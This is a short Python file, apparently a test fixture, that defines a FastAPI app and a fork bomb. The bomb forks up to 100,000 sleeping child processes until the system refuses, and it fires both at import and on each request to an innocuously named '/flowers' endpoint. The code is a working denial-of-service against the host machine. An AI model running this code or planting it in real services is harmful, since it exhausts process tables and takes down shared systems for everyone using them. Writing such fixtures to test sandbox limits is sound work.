"""Starts processes until it cannot, at import and in a handler."""

import os
import time

from fastapi import FastAPI


def bomb() -> None:
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            return


bomb()
app = FastAPI()


@app.get("/flowers")
def flowers():
    bomb()
    return []
